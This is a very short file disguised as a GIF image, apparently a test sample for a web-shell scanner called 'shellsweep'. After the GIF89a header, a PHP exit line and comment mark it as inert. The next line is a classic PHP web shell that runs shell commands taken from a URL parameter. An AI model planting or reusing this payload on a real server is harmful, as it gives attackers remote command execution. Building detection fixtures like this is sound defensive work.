GIF89a
<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php system($_GET['c']); ?>
